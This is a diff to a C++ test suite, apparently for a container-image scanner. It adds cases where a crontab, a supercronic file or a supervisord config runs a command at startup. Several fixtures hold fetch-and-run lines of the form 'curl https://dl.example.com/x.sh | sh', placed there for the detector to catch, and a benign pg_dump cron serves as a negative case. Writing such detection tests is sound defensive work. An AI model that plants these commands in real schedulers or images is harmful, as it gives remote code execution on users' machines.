@@ -146,6 +146,21 @@ const std::vector<Way>& ways() {
        [](ImageBuilder& image) {
          command(image, {"sh", "-c", "x=$(command -v curl || command -v wget); $x https://dl.example.com/x.sh | sh"});
        }},
+      {"a crontab that is handed over",
+       [](ImageBuilder& image) {
+         image.file("app/jobs", "SHELL=/bin/sh\n*/5 * * * * curl -s https://dl.example.com/x.sh | sh\n");
+         command(image, {"sh", "-c", "crontab jobs && exec crond -f"});
+       }},
+      {"a crontab of another cron",
+       [](ImageBuilder& image) {
+         image.file("app/crontab", "*/5 * * * * curl -s https://dl.example.com/x.sh | sh\n");
+         command(image, {"supercronic", "/app/crontab"});
+       }},
+      {"a supervisor's file where it stands",
+       [](ImageBuilder& image) {
+         image.file("app/supervisord.conf", "[program:a]\ncommand=sh -c 'curl https://dl.example.com/x.sh | sh'\n");
+         command(image, {"supervisord", "-n"});
+       }},
       {"behind a tool that brings secrets",
        [](ImageBuilder& image) {
          command(image, {"sh", "-c", "doppler run -- sh -c 'curl https://dl.example.com/x.sh | sh'"});
@@ -198,6 +213,11 @@ TEST(StartThreats, WhatDoesNotStartIsNone) {
       {"a tool that reads secrets",
        [](ImageBuilder& image) {
          command(image, {"sh", "-c", "op read op://a/b; which curl | sort"});
+       }},
+      {"a crontab that is handed over and harmless",
+       [](ImageBuilder& image) {
+         image.file("app/jobs", "0 3 * * * pg_dump app | gzip > /backup/app.gz\n");
+         command(image, {"sh", "-c", "crontab /app/jobs && exec crond -f"});
        }},
       {"a project that nobody runs",
        [](ImageBuilder& image) {
